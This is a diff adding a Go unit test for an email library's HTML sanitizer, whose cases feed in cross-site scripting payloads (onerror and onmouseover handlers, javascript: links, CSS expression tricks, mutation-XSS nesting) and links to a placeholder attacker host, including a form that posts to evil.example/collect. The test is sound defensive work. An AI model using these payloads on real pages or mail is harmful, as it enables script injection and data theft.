@@ -0,0 +1,93 @@
+package parsemail
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestSanitizeHTML(t *testing.T) {
+	var testData = map[int]struct {
+		html     string
+		expected string
+	}{
+		1: {
+			html:     `<p class="x">Hello <b>world</b></p>`,
+			expected: `<p class="x">Hello <b>world</b></p>`,
+		},
+		2: {
+			html:     `<div onmouseover="alert(1)" OnLoad=x>Hi<script>alert(1)</script><iframe src="https://evil.example"></iframe></div><!-- note -->`,
+			expected: `<div>Hi</div>`,
+		},
+		3: {
+			html:     `<a href=" java&#x09;script:alert(1)">x</a><a href="https://example.com">y</a><a href="data:text/html,<b>x</b>">z</a>`,
+			expected: `<a>x</a><a href="https://example.com">y</a><a>z</a>`,
+		},
+		4: {
+			html:     `<form action="https://evil.example/collect"><input name="p"><button formaction="//evil.example">Go</button></form><form action="#">`,
+			expected: `<form><input name="p"><button>Go</button></form><form action="#"></form>`,
+		},
+		5: {
+			html:     `<p style="color: red; width: expression(alert(1)); background: url(javascript:alert(1))">x</p><p style="behavior: url(x.htc)">y</p>`,
+			expected: `<p style="color: red">x</p><p>y</p>`,
+		},
+		6: {
+			html:     `<style>@import url(https://evil.example/a.css); p { color: red }</style><style>p { width: e\78 pression(alert(1)) }</style>`,
+			expected: `<style> p { color: red }</style>`,
+		},
+		7: {
+			html:     `<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4="><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+			expected: `<img src="data:image/png;base64,iVBORw0KGgo="><img>`,
+		},
+		8: {
+			html:     `<svg><style><img src=x onerror=alert(1)></style></svg><p>after</p>`,
+			expected: `<p>after</p>`,
+		},
+		9: {
+			html:     `<math><style><img src=x onerror=alert(1)></style></math>`,
+			expected: ``,
+		},
+		10: {
+			html:     `<svg><p><style><img src=x onerror=alert(1)></style></p></svg><math><p><style><img src=x onerror=alert(1)></style></p></math>`,
+			expected: ``,
+		},
+		11: {
+			html:     `<style>p::after { content: "<img src=x onerror=alert(1)>" }</style>`,
+			expected: `<style>p::after { content: "\3c img src=x onerror=alert(1)>" }</style>`,
+		},
+		12: {
+			html:     `<select><xmp></select><img src=x onerror=alert(1)></xmp>`,
+			expected: `<select></select>`,
+		},
+		13: {
+			html:     `<select><noembed></select><img src=x onerror=alert(1)></noembed>`,
+			expected: `<select></select>`,
+		},
+		14: {
+			html:     `<select><noframes></select><img src=x onerror=alert(1)></noframes>`,
+			expected: `<select></select>`,
+		},
+		15: {
+			html:     `<p>before</p><plaintext><img src=x onerror=alert(1)>`,
+			expected: `<p>before</p>`,
+		},
+	}
+
+	for index, td := range testData {
+		if got := SanitizeHTML(td.html); got != td.expected {
+			t.Errorf("[Test Case %v] Wrong sanitized HTML. Expected: %s, Got: %s", index, td.expected, got)
+		}
+	}
+}
+
+func TestHTMLSanitization(t *testing.T) {
+	mailData := "From: jdoe@machine.example\nContent-Type: text/html\n\n<p>Hi<script>alert(1)</script></p>\n"
+
+	e, err := ParseWithOptions(strings.NewReader(mailData), WithHTMLSanitization())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !strings.HasPrefix(e.HTMLBody, "<p>Hi</p>") {
+		t.Errorf("HTML body not sanitized: %q", e.HTMLBody)
+	}
+}